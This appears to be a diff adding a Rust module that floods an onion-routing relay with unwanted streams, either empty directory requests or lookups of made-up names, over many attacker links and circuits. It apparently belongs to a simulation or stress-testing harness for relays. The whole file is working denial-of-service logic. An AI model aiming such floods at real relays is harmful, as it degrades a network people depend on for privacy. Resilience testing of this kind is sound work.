@@ -1,0 +1,93 @@
+//! Floods of streams that nobody means to use.
+
+use super::Attack;
+use super::circuits::{Circuit, Lines, Yard};
+use super::field::{Field, LineId};
+use onion::cell::relay::RelayCommand;
+use onion::cell::{BODY_LEN, CircId, Command};
+
+/// Addresses of the attacker, with a link each.
+const LINES: usize = 24;
+
+/// Circuits on each link.
+const CIRCUITS: u32 = 20;
+
+/// Streams of a circuit.
+const STREAMS: u16 = 60_000;
+
+/// Streams of one kind, as many as can be.
+pub(super) struct Flood {
+    command: RelayCommand,
+    /// Over circuits of two hops, whose last is the relay.
+    comes_by_another: bool,
+    lines: Lines,
+    yard: Yard,
+    circuits: Vec<(Circuit, u16)>,
+    asked: u64,
+}
+
+impl Flood {
+    /// Streams to the relay's directory that ask for nothing.
+    pub(super) fn begin_dir() -> Self {
+        Self::new(RelayCommand::BEGIN_DIR, false)
+    }
+
+    /// Names that do not exist, each another one.
+    pub(super) fn resolve() -> Self {
+        Self::new(RelayCommand::RESOLVE, true)
+    }
+
+    fn new(command: RelayCommand, comes_by_another: bool) -> Self {
+        let (lines, yard) = (Lines::default(), Yard::default());
+        Self { command, comes_by_another, lines, yard, circuits: Vec::new(), asked: 0 }
+    }
+}
+
+impl Attack for Flood {
+    fn act(&mut self, field: &mut Field) {
+        let relay = *field.prey().relay();
+        let (lines, onward) = if self.comes_by_another {
+            (self.lines.keep_to_other(field, LINES), &[relay][..])
+        } else {
+            (self.lines.keep(field, LINES), &[][..])
+        };
+        for line in lines.iter().copied() {
+            if self.yard.begun(line) < CIRCUITS && field.takes(line) {
+                self.yard.begin(field, line, onward);
+            }
+        }
+        for (circuit, streams) in &mut self.circuits {
+            // In turn, so that many circuits take part.
+            for _ in 0..8 {
+                if !field.takes(circuit.line) {
+                    break;
+                }
+                *streams = *streams % STREAMS + 1;
+                self.asked += 1;
+                let name = match self.command {
+                    RelayCommand::RESOLVE => format!("n{}.siege.invalid\0", self.asked),
+                    _ => String::new(),
+                };
+                circuit.send(field, self.command, *streams, name.as_bytes());
+            }
+        }
+    }
+
+    fn handle_cell(
+        &mut self,
+        field: &mut Field,
+        line: LineId,
+        circ_id: CircId,
+        command: Command,
+        body: &[u8; BODY_LEN],
+    ) {
+        let built = self.yard.handle_cell(field, line, circ_id, command, body);
+        self.circuits.extend(built.map(|circuit| (circuit, 0)));
+    }
+
+    fn handle_lost(&mut self, line: LineId) {
+        self.lines.handle_lost(line);
+        self.yard.handle_lost(line);
+        self.circuits.retain(|(circuit, _)| circuit.line != line);
+    }
+}
